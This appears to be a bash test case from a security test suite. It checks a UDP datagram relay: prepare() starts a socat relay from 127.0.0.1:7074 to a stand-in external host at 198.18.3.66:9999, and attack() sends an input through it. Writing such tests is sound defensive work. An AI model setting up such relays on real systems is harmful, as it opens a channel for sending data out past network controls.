# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The same for datagrams'
origin='RESEARCH §2.73'
reason='not_resolved'
forms='output run'
prepare() { start "$T/relay.log" c socat -T 2 UDP-RECVFROM:7074,reuseaddr,bind=127.0.0.1 UDP:198.18.3.66:9999 && eventually 15 h c sh -c 'ss -lun | grep -q :7074'; }
attack() { tool send.py udp 127.0.0.1 7074 "$1"; }
